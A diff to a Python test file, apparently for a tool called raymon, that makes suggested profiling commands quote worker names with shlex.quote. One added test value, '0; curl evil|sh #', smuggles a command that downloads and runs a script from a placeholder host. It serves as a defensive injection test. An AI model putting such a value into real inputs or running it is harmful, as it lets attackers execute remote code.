@@ -2,6 +2,7 @@
 
 import dataclasses
 import re
+import shlex
 from pathlib import Path
 
 import language_views
@@ -373,10 +374,10 @@ def test_advice_for_any_other_trainer_is_plain_words():
     assert "{" not in advice
 
 
-@pytest.mark.parametrize("name", ["{x}", "{", "}{0}", "{minibatch!r:>99}"])
+@pytest.mark.parametrize("name", ["{x}", "{", "}{0}", "{minibatch!r:>99}", "0; curl evil|sh #"])
 def test_a_worker_whose_name_looks_like_a_mark_breaks_no_advice(name):
     view = run(worker(name, heartbeat_age_seconds=30.0), worker("1"), engine="own")
-    assert f"raymon profile --worker {name}. A time-out (--worker-timeout)" in judge(view).advice
+    assert f"`raymon profile --worker {shlex.quote(name)}`. A time-out (--worker-timeout)" in judge(view).advice
 
 
 def test_with_a_full_cpu_more_workers_are_not_advised():
